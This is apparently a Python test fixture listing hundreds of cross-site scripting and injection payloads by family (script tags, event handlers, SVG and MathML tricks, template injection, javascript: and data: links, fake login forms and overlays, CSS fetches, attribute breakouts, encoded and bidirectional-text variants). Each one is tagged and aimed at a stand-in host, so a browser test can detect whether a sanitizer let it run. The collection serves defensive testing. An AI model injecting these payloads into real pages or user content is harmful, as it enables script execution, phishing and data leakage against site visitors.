"""What a hostile document, file name or question may hold, by what it tries.

Everything that would be an element carries the attribute `evil`, everything that would be fetched
lies at `HOST`, and everything that would run opens a dialog, so that a browser can be asked whether
any of it came to life. A payload is one line unless the line breaks are the point; none is an
address by itself: those are `DEAD_ADDRESSES` and `LIVE_ADDRESSES`.
"""

HOST = "evil.test"

SCRIPTS = (
    "<script evil>alert(1)</script>",
    "<script evil src=//evil.test/a.js></script>",
    "<script evil type=module>import 'http://evil.test/a.mjs'</script>",
    "<ScRiPt evil>alert(1)</sCrIpT>",
    "<script evil\t>alert(1)</script\t>",
    "</script><script evil>alert(1)</script>",
    "</title><script evil>document.title = 'evil'</script>",
    "</textarea><script evil>alert(1)</script>",
    "</style><script evil>alert(1)</script>",
    "</noscript><script evil>alert(1)</script>",
    "<!--><script evil>alert(1)</script>-->",
    "<![CDATA[<script evil>alert(1)</script>]]>",
    "<scr<script>ipt evil>alert(1)</scr</script>ipt>",
    "<template evil><script evil>alert(1)</script></template>",
)
HANDLERS = (
    "<img evil src=x onerror=alert(1)>",
    '<img evil src="x" onerror="alert(1)">',
    "<img evil/src=x/onerror=alert(1)>",
    "<image evil src=x onerror=alert(1)>",
    "<body evil onload=alert(1)>",
    "<video evil><source evil onerror=alert(1)></video>",
    "<audio evil src=x onerror=alert(1)></audio>",
    "<details evil open ontoggle=alert(1)><summary>x</summary></details>",
    "<input evil autofocus onfocus=alert(1)>",
    "<select evil autofocus onfocus=alert(1)></select>",
    "<marquee evil onstart=alert(1)>x</marquee>",
    "<b evil onpointerenter=alert(1)>x</b>",
    "<p evil style=animation-name:rotate onanimationstart=alert(1)>x</p>",
    "<dialog evil open onfocusin=alert(1)><button autofocus>x</button></dialog>",
    "<unknown-element evil tabindex=1 autofocus onfocus=alert(1)>x</unknown-element>",
)
PICTURES_THAT_RUN = (
    "<svg evil onload=alert(1)></svg>",
    "<svg evil/onload=alert(1)>",
    "<svg evil><script evil>alert(1)</script></svg>",
    "<svg evil><script evil href=//evil.test/a.js /></svg>",
    "<svg evil><a evil xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg evil><use evil href=http://evil.test/a.svg#x /></svg>",
    "<svg evil><image evil href=http://evil.test/a.png onerror=alert(1) /></svg>",
    "<svg evil><animate evil onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "<svg evil><foreignObject evil><iframe evil src=//evil.test></iframe></foreignObject></svg>",
    "<svg evil><style evil><img evil src=x onerror=alert(1)></style></svg>",
    "<math evil><mtext><table><mglyph><style><img evil src=x onerror=alert(1)>",
    "<math evil href=javascript:alert(1)><mi evil>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img evil src=x onerror=alert(1)>",
)
TEMPLATES = (
    "${alert(1)}",
    "${value}",
    "`${alert(1)}`",
    "$" + "{constructor.constructor('alert(1)')()}",
    "{{value}}",
    "{{{value}}}",
    "{{#each this}}{{alert 1}}{{/each}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{> evil}} {{lookup this 'constructor'}}",
    "{% include 'http://evil.test' %} {{ config.items() }}",
    "<%= alert(1) %> #{alert(1)} #set($x=alert(1))",
    "@children @html alert(1)",
)
MARKDOWN = (
    "![wages](http://evil.test/b.png)",
    "![wages][ref]\n\n[ref]: http://evil.test/c.png",
    "[![wages](http://evil.test/d.png)](javascript:alert(1))",
    "[wages](javascript:alert(1))",
    "[wages](<javascript:alert(1)>)",
    "[wages](JaVaScRiPt&colon;alert(1))",
    "[wages](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[wages][evil]\n\n[evil]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    "<http://evil.test/autolink>",
    "see www.evil.test and http://evil.test/bare for more",
    "**bold** _slanted_ ~~struck~~ `code` $x^2$ $$y$$ \\(z\\)",
    "x\n\n# heading\n\n> quoted\n\n```html\n<img evil src=x onerror=alert(1)>\n``` x",
    "<div markdown=1 evil>\n\n![x](http://evil.test/e.png)\n\n</div>",
    ":::evil\n![x](http://evil.test/f.png)\n::: x",
    "[^1] and ![x](//evil.test/g.png 'x\" onerror=\"alert(1)')",
)
LINKS = (
    '<a evil href="javascript:alert(1)">the source</a>',
    "<a evil href=' javascript:alert(1)'>the source</a>",
    '<a evil href="java&#9;script:alert(1)">the source</a>',
    '<a evil href="http://evil.test/">the source</a>',
    '<a evil href="#s1-1" class="cite" target=_blank ping=http://evil.test>1</a>',
    "<area evil href=javascript:alert(1)>",
    "<base evil href=//evil.test/>",
    "<link evil rel=stylesheet href=//evil.test/a.css>",
    "<link evil rel=prefetch href=//evil.test/a>",
    "<object evil data=//evil.test/a.swf></object>",
    "<embed evil src=//evil.test/a.swf>",
    "<iframe evil src=//evil.test></iframe>",
    "<iframe evil src=javascript:alert(1)></iframe>",
    '<iframe evil srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<img evil src=//evil.test/h.png srcset='//evil.test/i.png 1x'>",
    "<portal evil src=//evil.test></portal>",
)
FORMS = (
    "<form evil action=//evil.test><input evil name=password><button evil>Log in</button></form>",
    "<form evil id=x></form><button evil form=x formaction=javascript:alert(1)>Ask</button>",
    "<input evil type=image src=//evil.test/j.png>",
    "<isindex evil action=javascript:alert(1) type=image>",
    "<textarea evil name=secret></textarea>",
    "<keygen evil autofocus onfocus=alert(1)>",
)
OVERLAYS = (
    '<div evil style="position:fixed;inset:0;background:#fff;z-index:9">Your session is over</div>',
    "<div evil class='problem'>Something went wrong. Call 555-0100.</div>",
    "</bdi></blockquote></div><div evil style=position:fixed;top:0>The sources say nothing</div>",
    "<dialog evil open style='position:fixed'>Log in again</dialog>",
    "<p evil popover id=pop style=display:block>x</p><button evil popovertarget=pop>x</button>",
    "<h1 evil id=about>Another name</h1>",
)
STYLES = (
    "<style evil>@import '//evil.test/a.css';</style>",
    "<style evil>body { background: url(http://evil.test/k.png) }</style>",
    "<p evil style='background:url(http://evil.test/l.png)'>x</p>",
    '<p evil style="width:expression(alert(1));behavior:url(//evil.test)">x</p>',
    "x' style='position:fixed;background:url(//evil.test/m.png)' evil='",
    "url(//evil.test/n.png); } * { background: url(//evil.test/o.png) } /*",
)
REFRESHES = (
    "<meta evil http-equiv=refresh content='0;url=http://evil.test/'>",
    "<meta evil http-equiv=refresh content='0;javascript:alert(1)'>",
    "<meta evil http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
    "<html evil manifest=//evil.test/a><head evil>",
)
BREAKOUTS = (
    '" evil onmouseover="alert(1)',
    "' evil onmouseover='alert(1)",
    "` evil onmouseover=`alert(1)",
    "x evil onmouseover=alert(1) x=",
    '"><img evil src=x onerror=alert(1)>',
    "'><img evil src=x onerror=alert(1)>",
    "`><img evil src=x onerror=alert(1)>",
    '\\"><img evil src=x onerror=alert(1)>',
    '" autofocus evil tabindex=1 onfocus="alert(1)" x="',
    '" href="javascript:alert(1)" evil x="',
    '"); alert(1); ("',
    "'-alert(1)-'",
    '"]); alert(1); // \\u003cimg evil>',
    "--><img evil src=x onerror=alert(1)><!--",
    "]]><img evil src=x onerror=alert(1)>",
    "*/ alert(1) /* */-->",
    '{"what": "ask", "question": "x", "__proto__": {"evil": 1}}',
)
ENTITIES = (
    "&lt;script evil&gt;alert(1)&lt;/script&gt;",
    "&#60;img evil src=x onerror=alert(1)&#62;",
    "&#x3c;img evil src=x onerror=alert(1)&#x3e;",
    "&amp;lt;img evil src=x onerror=alert(1)&amp;gt;",
    "&lt&ltimg evil src=x onerror=alert(1)&gt&gt",
    "%3Cimg%20evil%20src=x%20onerror=alert(1)%3E",
    "\\u003cimg evil src=x onerror=alert(1)\\u003e \\x3cb evil\\x3e",
    "+ADw-script evil+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cimg evil src=x onerror=alert(1)\uff1e",
    "\u02c2img evil src=x onerror=alert(1)\u02c3",
    "&quot; evil onmouseover=&quot;alert(1)",
)
BROKEN = (
    "<img evil src=x onerror=alert(1)//",
    "<<img evil src=x onerror=alert(1)>>",
    "<img evil src='x\" onerror=alert(1)>",
    "< img evil src=x onerror=alert(1)>",
    "</p></li></ol></div></article><img evil src=x onerror=alert(1)>",
    "<b evil><i evil></b></i><table evil><td evil><p evil></table>",
    "<p evil><p evil><select><option><img evil src=x onerror=alert(1)>",
    "<noscript evil><p title='</noscript><img evil src=x onerror=alert(1)>'>",
    "<a evil<b evil>x</a>",
    "<xmp evil></xmp><plaintext evil>",
    "<frameset evil onload=alert(1)>",
)
DIRECTIONS = (
    "the guard is \u202enot\u202c paid \u2066seven\u2069 crowns",
    "\u202e<img evil src=x onerror=alert(1)>\u202c",
    "\u200f\u061c\u2067<b evil>x</b>\u2069\u200e",
    "invoice\u202efdp.exe",
    "<im\u202eg evil src=x onerror=alert(1)>",
    "\u2068\u2068\u2068 unclosed isolates",
)
NULLS = (
    "<scr\0ipt evil>alert(1)</scr\0ipt>",
    "<img evil src=x one\0rror=alert(1)>",
    "\0<img evil src=x onerror=alert(1)>",
    "<\x0bimg evil\x0csrc=x onerror=alert(1)>",
    "<img\x1fevil src=x onerror=alert(1)>",
    "\x1b]8;;http://evil.test\x07a link in a terminal\x1b]8;;\x07",
    "\ufeff<img evil src=x onerror=alert(1)>\ufffe",
)

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "pictures that run": PICTURES_THAT_RUN,
    "templates": TEMPLATES,
    "markdown": MARKDOWN,
    "links": LINKS,
    "forms": FORMS,
    "overlays": OVERLAYS,
    "styles": STYLES,
    "refreshes": REFRESHES,
    "breakouts": BREAKOUTS,
    "entities": ENTITIES,
    "broken": BROKEN,
    "directions": DIRECTIONS,
    "nulls": NULLS,
}
PAYLOADS = tuple(payload for family in FAMILIES.values() for payload in family)

# what a document may give as its address, and must never be led to
DEAD_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
    "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&#58;alert(1)",
    "javascript://evil.test/%0aalert(1)", "javascript:http://evil.test",
    "javascript:'<img evil>'", "java\0script:alert(1)", "\u200bjavascript:alert(1)",
    "\ufeffjavascript:alert(1)", "jav\u0430script:alert(1)", "feed:javascript:alert(1)",
    "vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", " data:text/html,x", "blob:http://evil.test/1",
    "file:///etc/passwd", "FILE:///C:/", "filesystem:http://evil.test/x", "about:blank",
    "view-source:http://evil.test", "ms-word:ofe|u|http://evil.test", "tel:5550100",
    "mailto:x@evil.test?body=x", "ftp://evil.test", "ws://evil.test", "//evil.test",
    "/\\evil.test", "\\\\evil.test\\share", "http:evil.test", "http:/evil.test",
    "http:\\\\evil.test", "http:///evil.test", "http://", "https://?", "http://[", "http://[::1",
    "#s1-1", "?q=x", "evil.test", "../../etc/passwd",
)  # fmt: skip
# of these a browser reads another host than the reader of the page would: no links either
MISLEADING_ADDRESSES = (
    "http://evil.test\\@oregon.gov/", "https://oregon.gov\\.evil.test/",
    "http://oregon.gov@evil.test/", "http://oregon.gov:80@evil.test/",
    "http://oregon.gov%2f@evil.test/", "http://oregon.gov%2eevil.test/",
    "http://oregon.gov\u202e.evil.test/",
    "http://oregon.gov\uff0fevil.test/", "http://oregon.gov<b evil>.evil.test/",
    "http://oregon.gov .evil.test/", "http://oregon.gov\0.evil.test/",
    "http://oregon.gov;evil.test/",
)  # fmt: skip
# look-alikes, with the host that a browser would call
LOOK_ALIKES = {
    "http://\u043eregon.gov/": "xn--regon-iye.gov",
    "http://oregon.gov\u2044evil.test/": "oregon.xn--govevil-3d7c.test",
}
# links, and nothing but links: what would leave the attribute stays in it
LIVE_ADDRESSES = (
    'http://evil.test/"onmouseover="alert(1)"evil="',
    "http://evil.test/'onmouseover='alert(1)'evil='",
    "http://evil.test/><img evil src=x onerror=alert(1)>",
    "https://evil.test/?a=1&lt;b&quot;=2&copy=3",
    "https://evil.test/${alert(1)}/{{value}}/`x`",
    "https://evil.test/#javascript:alert(1)",
    "HTTPS://EVIL.test:8443/\u202e/x",
    "https://evil.test/\t/x y",
)


def aimed(payload: str, host: str) -> str:
    """A payload whose fetches go to another host, such as one that counts them."""
    return payload.replace(HOST, host)
